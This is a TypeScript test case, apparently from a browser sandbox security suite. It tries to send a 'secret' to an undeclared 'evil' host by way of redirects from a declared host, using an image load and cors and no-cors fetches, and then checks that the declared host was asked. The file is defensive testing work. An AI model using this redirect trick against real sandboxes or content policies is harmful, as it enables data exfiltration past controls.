import type { Attack } from '../attack.ts';
import { holds } from '../expect.ts';

const OPEN = 'https://open.attacklab.example';

export const attack: Attack = {
  id: '12',
  group: 'exfiltration',
  title: 'let a declared host redirect fetch and images to an undeclared one',
  expected: 'the declared host is asked, the other one is not',
  heardOnAnOrdinaryPage: true,
  async guest({ evil, pause }) {
    const through = (how: string): string => `${OPEN}/12/${how}?to=${encodeURIComponent(`${evil}/12/${how}?secret`)}`;
    new Image().src = through('image');
    const results = await Promise.all(
      (['cors', 'no-cors'] as const).map((mode) =>
        fetch(through(mode), { mode }).then(
          () => 'answered',
          () => 'refused',
        ),
      ),
    );
    await pause(500);
    return results;
  },
  judge({ world }) {
    const asked = world.openHost.requests().filter(({ path }) => path.startsWith('/12/'));
    for (const how of ['image', 'cors', 'no-cors']) {
      holds(
        asked.some(({ path }) => path.startsWith(`/12/${how}`)),
        `${how} did not reach the declared host, so nothing was tried`,
      );
    }
  },
};
